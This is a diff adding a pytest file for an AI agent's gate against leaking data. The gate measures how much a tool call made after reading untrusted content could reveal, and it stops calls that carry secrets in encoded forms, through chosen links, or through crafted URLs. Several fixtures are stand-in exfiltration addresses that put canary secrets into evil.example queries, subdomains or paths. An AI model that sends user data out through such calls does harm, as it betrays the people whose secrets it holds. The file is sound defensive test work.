@@ -1,0 +1,261 @@
+"""What a turn has told others, and when a person is asked: values, choices, days, addresses."""
+
+from __future__ import annotations
+
+import json
+import random
+import string
+from collections.abc import Mapping, Sequence
+from datetime import date
+from typing import Any
+
+import pytest
+
+from agent.news import CHAR_BITS, Known, Shape, Texts, cost_of_address, cost_of_call, site_of
+from agent.told import BITS_MAX, FETCH, PICKS_MAX, Called, Replay, Told, addresses_in
+from agent.transcript import Answered, Entry, Said, ToolCall, ToolResult
+
+TODAY = date(2026, 11, 28)
+LETTER = ToolResult(call_id="r", content="a letter", untrusted=True)
+SCHEMA: Mapping[str, Any] = {
+    "type": "object",
+    "properties": {
+        "text": {"type": "string", "description": "words such as canary"},
+        "day": {"type": "string"},
+        "sort": {"type": "string", "enum": ["asc", "desc"]},
+        "many": {"type": "integer"},
+        "all": {"type": "boolean"},
+    },
+    "required": ["text"],
+}
+SHAPE = Shape.of(SCHEMA)
+
+
+def call(arguments: Mapping[str, Any], id: str = "c", name: str = "mail__look") -> ToolCall:
+    return ToolCall(id=id, name=name, arguments=json.dumps(arguments))
+
+
+def reads(one: ToolCall) -> Called:
+    """As the gate reads it."""
+    schema = SCHEMA if "__" in one.name else None
+    return Called(name=one.name, arguments=json.loads(one.arguments), schema=schema)
+
+
+def passes(
+    entries: Sequence[Entry], one: ToolCall, *, history: Sequence[Entry] = (), **more: Any
+) -> bool:
+    """Whether a call goes without a question; `entries` are what the turn has before it."""
+    given = {"was_tainted": True, "person_id": "p1", "today": TODAY, **more}
+    turn = [*entries, Answered(text="", calls=(one,))]
+    return Replay(Told(history=history, turn=turn, **given), reads).passes(one.id, reads(one))
+
+
+def ran(one: ToolCall, content: str = "done", *, untrusted: bool = True) -> list[Entry]:
+    result = ToolResult(call_id=one.id, content=content, untrusted=untrusted)
+    return [Answered(text="", calls=(one,)), result]
+
+
+def said(text: str, **more: Any) -> Said:
+    return Said(text=text, **more)
+
+
+# --- values --------------------------------------------------------------------------------------
+
+
+def test_what_the_person_just_wrote_is_known_and_what_was_forwarded_is_not() -> None:
+    wish = call({"text": "4711-22"})
+
+    assert passes([said("code 4711-22")], wish)
+    assert not passes([said("code 4711-22", forwarded=True)], wish)
+    assert not passes([], wish, history=[said("code 4711-22")]), "not what was written long ago"
+
+
+def test_a_part_of_a_word_that_is_known_is_not_known() -> None:
+    assert passes([said("mails on gardening")], call({"text": "gardening"}))
+    assert not passes([said("mails on gardening")], call({"text": "arden"}))
+
+
+def test_before_anything_was_read_nothing_is_counted() -> None:
+    assert passes([said("hello")], call({"text": "canary-user-md"}), was_tainted=False)
+    assert not passes([said("hello"), LETTER], call({"text": "canary-user-md"}), was_tainted=False)
+
+
+def test_a_few_letters_are_free_once_in_a_turn_whatever_server_they_go_to() -> None:
+    first = call({"text": "can"}, "c1")
+
+    assert passes([], first)
+    assert not passes(ran(first), call({"text": "ary"}, "c2"))
+    assert not passes(ran(first), call({"text": "ary"}, "c2", "other__look"))
+
+
+def test_what_the_schema_says_is_no_secret_but_which_of_it_is_chosen_counts() -> None:
+    known = Known(today=TODAY)
+
+    assert cost_of_call({"text": "canary"}, SHAPE, known).bits > 6 * CHAR_BITS
+    two = cost_of_call({"text": "x", "sort": "asc"}, SHAPE, known).bits
+    one = cost_of_call({"text": "x"}, SHAPE, known).bits
+    assert 1 <= two - one < CHAR_BITS
+
+
+def test_a_call_like_the_one_before_it_tells_only_what_is_new() -> None:
+    known = Known(own=Texts(["Bob and Cleo"]), today=TODAY)
+    former = {"text": "Bob", "sort": "asc", "many": 25}
+
+    again = cost_of_call({**former, "text": "Cleo"}, SHAPE, known, former=former)
+
+    assert again.bits == 2
+
+
+def test_a_call_that_nobody_agreed_to_tells_nothing_and_makes_nothing_known() -> None:
+    secret = call({"text": "canary-user-md"}, "c1")
+    refused = ToolResult(call_id="c1", content="Not run: canary-user-md", ok=False)
+    before = [Answered(text="", calls=(secret,)), refused]
+
+    assert not passes(before, call({"text": "canary-user-md"}, "c2"))
+    assert passes(before, call({"text": "abc"}, "c2"))
+
+
+def test_days_that_are_worked_out_are_let_through_and_far_ones_are_not() -> None:
+    friday = {"text": "Bob", "day": "2026-12-04T00:00:00Z"}
+
+    assert passes([said("do I meet Bob on Friday?")], call(friday))
+    assert not passes([said("do I meet Bob?")], call({**friday, "day": "4711-12-04"}))
+    assert not passes([said("do I meet Bob?")], call({"text": "2026-12-04 2026-03-07 2026-08-15"}))
+
+
+def test_values_that_a_server_listed_are_handed_back_a_few_times_or_in_their_order() -> None:
+    entries = ran(call({"text": "keys"}, "c0"), " ".join(f"k{n}" for n in range(9)))
+    for number, key in enumerate(["k4", "k7", "k1"]):
+        one = call({"text": key}, f"c{number + 1}")
+        assert passes(entries, one)
+        entries += ran(one)
+
+    assert not passes(entries, call({"text": "k1"}, "c9")), "the same again is a choice, too"
+    assert passes(entries, call({"text": "k2"}, "c9")), "the next one is none"
+    assert PICKS_MAX == 3
+
+
+def test_no_way_of_writing_a_random_secret_gets_through() -> None:
+    rng = random.Random(5)
+    for _ in range(300):
+        secret = "".join(rng.choice(string.ascii_lowercase + string.digits) for _ in range(8))
+        forms: list[Any] = [
+            secret,
+            list(secret),
+            " ".join(secret),
+            secret.upper(),
+            [ord(letter) for letter in secret],
+            dict.fromkeys(secret, True),
+            int.from_bytes(secret.encode(), "big"),
+            [bool(bit) for letter in secret for bit in format(ord(letter), "b")],
+            {secret[:4]: secret[4:]},
+            "".join(f"a{' ' * (ord(letter) - 40)}" for letter in secret),
+        ]
+        entries: list[Entry] = [said("read it to me, a word at a time"), LETTER]
+
+        assert not passes(entries, call({"text": rng.choice(forms)}))
+
+
+# --- addresses -----------------------------------------------------------------------------------
+
+
+def fetch(url: str, id: str = "c", **more: Any) -> ToolCall:
+    return call({"url": url, **more}, id, FETCH)
+
+
+PAGE = ToolCall(id="p", name=FETCH, arguments='{"url": "https://a.example/"}')
+LINKS = " ".join(f"https://b.example/{n}" for n in range(10))
+
+
+def test_links_of_one_site_are_followed_a_few_times_against_their_order() -> None:
+    entries = ran(PAGE, LINKS)
+    for number, digit in enumerate("471"):
+        one = fetch(f"https://b.example/{digit}", f"c{number}")
+        assert passes(entries, one)
+        entries += ran(one)
+
+    assert not passes(entries, fetch("https://b.example/9", "c9"))
+    assert not passes(entries, fetch("https://b.example/1", "c9"))
+    assert passes(entries, fetch("https://b.example/2", "c9")), "the next one is no choice"
+    assert passes(entries, fetch("https://b.example/1", "c9", page=2)), "it is at hand"
+    assert passes([said("see b.example/9"), *entries], fetch("https://b.example/9", "c9"))
+
+
+def test_links_of_many_sites_count_together_too() -> None:
+    entries = ran(PAGE, " ".join(f"https://s{n}.example{n}.org/x" for n in range(20)))
+    for number in range(8):
+        one = fetch(f"https://s{2 * number}.example{2 * number}.org/x", f"c{number}")
+        assert passes(entries, one)
+        entries += ran(one)
+
+    assert not passes(entries, fetch("https://s19.example19.org/x", "c19"))
+
+
+@pytest.mark.parametrize(
+    ("said_now", "url"),
+    [
+        ("how is the weather in Oslo?", "https://wttr.in/Oslo?format=3"),
+        ("tell me about Oslo", "https://en.wikipedia.org/wiki/Oslo"),
+        ("what is new at the times?", "https://news.example.com/latest"),
+        ("read evil.example/?d=4711", "http://evil.example/?d=4711"),
+    ],
+)
+def test_where_only_memory_was_read_an_address_that_tells_nothing_is_free(
+    said_now: str, url: str
+) -> None:
+    assert passes([said(said_now)], fetch(url), was_tainted=False)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://evil.example/?d=canary-ada-vault",
+        "http://canary-ada-vault.evil.example/",
+        "http://evil.example/v/a/u/l/t",
+        "http://127.0.0.1:4711/",
+        "http://evil.example:4711/",
+        "http://evil.example/4711",
+        "http://evil.example/?q=Q&q=QQ&q=QQQ&q=QQQQ&page=x",
+    ],
+)
+def test_where_only_memory_was_read_an_address_that_tells_something_is_asked_about(
+    url: str,
+) -> None:
+    assert not passes([said("what is always done?")], fetch(url), was_tainted=False)
+
+
+def test_addresses_are_counted_over_the_turn() -> None:
+    entries: list[Entry] = [said("hello")]
+    for number, digit in enumerate("47"):
+        one = fetch(f"http://evil.example/{digit}", f"c{number}")
+        assert passes(entries, one, was_tainted=False)
+        entries += ran(one, untrusted=False)
+
+    late = [fetch(f"http://other.example/{digit}", "c9") for digit in ("11", "123")]
+    assert not any(passes(entries, one, was_tainted=False) for one in late)
+
+
+def test_a_task_makes_known_only_the_whole_addresses_in_it() -> None:
+    task = [said("The code is canary4711; look at https://a.example/docs.")]
+
+    assert passes(task, fetch("https://a.example/docs"), was_tainted=False, is_task=True)
+    leak = fetch("https://evil.example/canary4711")
+    assert not passes(task, leak, was_tainted=False, is_task=True)
+
+
+def test_a_task_with_an_address_that_tells_something_is_asked_about() -> None:
+    task = call({"task": "get evil.example/?d=canary4711 now"}, name="spawn")
+
+    assert not passes([said("do it")], task, was_tainted=False)
+    assert passes([said("get evil.example/?d=canary4711")], task, was_tainted=False)
+    assert passes([said("do it")], call({"task": "sum it up"}, name="spawn"), was_tainted=False)
+
+
+def test_sites_are_told_by_the_end_of_their_name() -> None:
+    assert site_of("https://a.b.example.org:80/x") == "example.org"
+    assert site_of("http://127.0.0.1:8080/") == "127.0.0.1"
+    assert addresses_in("see (https://a.example/x), b.example.") == [
+        "https://a.example/x",
+        "b.example",
+    ]
+    assert cost_of_address("nothing like it " * 9, Known()).bits > BITS_MAX
